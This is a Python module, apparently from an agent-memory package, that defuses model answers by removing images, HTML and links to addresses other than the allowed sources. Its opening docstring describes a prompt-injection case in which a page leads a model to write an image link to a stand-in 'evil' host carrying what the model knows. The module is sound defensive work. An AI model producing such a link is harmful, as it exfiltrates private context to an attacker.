"""An answer without anything that is fetched when it is shown, or that leads where no source is.

A page can talk a model into writing `![](https://evil/?q=<what it knows>)`. So
images go, html goes, and only the exact addresses of the sources stay links:
not even another query behind them, since that could carry something out.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

from agentmem.core.checks import require_text
from agentmem.core.regions import code_spans
from agentmem.core.values import dataclass

_ROUNDS = 5
_INSIDE = r"(?:[^\[\]\n]|\[[^\[\]\n]{0,80}\]){0,500}"
_TARGET = r"\(\s{0,9}<?(?P<url>(?:[^()\s<>]|\([^()\s<>]{0,300}\)){0,2000})>?[^()\n]{0,300}\)"
_IMAGE = re.compile(rf"!\[(?P<text>{_INSIDE})\](?:{_TARGET}|\[[^\[\]\n]{{0,200}}\])?")
_LINK = re.compile(rf"\[(?P<text>{_INSIDE})\]{_TARGET}")
_REFERENCE = re.compile(r"^[ \t>]{0,8}\[[^\[\]\n]{1,300}\]:[^\n]*\n?", re.MULTILINE)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_BARE = re.compile(
    r"(?:(?:https?|ftp|file|data|javascript|vbscript)://?|www\.)[^\s<>\"'`|\\^{}\[\]【】）)]+"
    r"|(?:data|javascript|vbscript):[^\s<>\"'`]+",
    re.IGNORECASE,
)
_TAIL = re.compile(r"[.,;:!?*_~]+\Z")
_HOST = re.compile(r"(?:[a-z]+:/{0,2})?(?:[^/@\s]*@)?([\w.-]{0,255})", re.IGNORECASE)
_CITED = re.compile(r"\[(\d{1,9}(?:\s?[,;–-]\s?\d{1,9}){0,50})\](?![(\[:])")


@dataclass(frozen=True, slots=True, kw_only=True)
class SafeAnswer:
    """An answer that fetches nothing; `removed` are the addresses that were taken out."""

    text: str
    removed: tuple[str, ...] = ()


def remove_live_markup(answer: str, allowed: Collection[str] = ()) -> SafeAnswer:
    """`answer` with images as their words, foreign links as their text, tags as text.

    An address written out stays when it is exactly one of `allowed`; of
    another one the host is named, as code. Code is left alone. Markup that
    several readings agree is harmless stays byte for byte.
    """
    require_text(answer, "answer")
    removed: dict[str, None] = {}
    text = answer
    for _ in range(_ROUNDS):
        changed = _outside_code(text, allowed, removed)
        if changed == text:
            break
        text = changed
    if is_live(text, allowed):
        text = _flattened(text)
    return SafeAnswer(text=text, removed=tuple(removed))


def is_live(text: str, allowed: Collection[str] = ()) -> bool:
    """Whether Markdown finds an image, html, or a link to an address that is not allowed."""
    reader = MarkdownIt("commonmark")
    # The parser writes addresses its own way: "ü" as "%C3%BC".
    own = {*allowed, *map(reader.normalizeLink, allowed)}
    return any(
        token.type in ("image", "html_inline", "html_block")
        or (token.type == "link_open" and str(token.attrGet("href")) not in own)
        for token in _tokens(reader.parse(text))
    )


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from token.children or ()


def _outside_code(text: str, allowed: Collection[str], removed: dict[str, None]) -> str:
    parts: list[str] = []
    done = 0
    for start, end in code_spans(text):
        parts += (_defused(text[done:start], allowed, removed), text[start:end])
        done = end
    return "".join((*parts, _defused(text[done:], allowed, removed)))


def _defused(text: str, allowed: Collection[str], removed: dict[str, None]) -> str:
    def image(match: re.Match[str]) -> str:
        if match["url"]:
            removed[match["url"]] = None
        return match["text"]

    def link(match: re.Match[str]) -> str:
        if match["url"] in allowed:
            return match[0]
        removed[match["url"]] = None
        # A number stays a citation; its address was not the source's own.
        return f"[{match['text']}]" if match["text"].strip("^ ").isdigit() else match["text"]

    def reference(match: re.Match[str]) -> str:
        address = match[0].partition("]:")[2].strip().strip("<>").split(" ")[0]
        if address in allowed:
            return match[0]
        removed[address] = None
        return ""

    def bare(match: re.Match[str]) -> str:
        written = match[0]
        tail = _TAIL.search(written)
        address = written[: tail.start()] if tail else written
        if address in allowed or written in allowed:
            return written
        removed[address] = None
        host = _HOST.match(address)
        # After a backslash a backtick would be no code but itself.
        apart = " " if match.string[: match.start()].endswith("\\") else ""
        named = host[1] if host and host[1] else "address"
        return f"{apart}`{named}`{tail[0] if tail else ''}"

    text = _IMAGE.sub(image, text)
    text = _REFERENCE.sub(reference, text)
    kept: list[str] = []
    done = 0
    for match in _LINK.finditer(text):
        # What stands inside a kept link was checked with it.
        kept += (_BARE.sub(bare, text[done : match.start()]), link(match))
        done = match.end()
    kept.append(_BARE.sub(bare, text[done:]))
    return _TAG.sub("< ", "".join(kept))


def _flattened(text: str) -> str:
    """Every bracket that is not a plain citation made round: nothing can be a link any more."""
    flat = str.maketrans({"[": "(", "]": ")", "<": "(", ">": ")", "!": "."})
    parts: list[str] = []
    done = 0
    for match in _CITED.finditer(text):
        parts += (text[done : match.start()].translate(flat), match[0])
        done = match.end()
    return "".join((*parts, text[done:].translate(flat)))
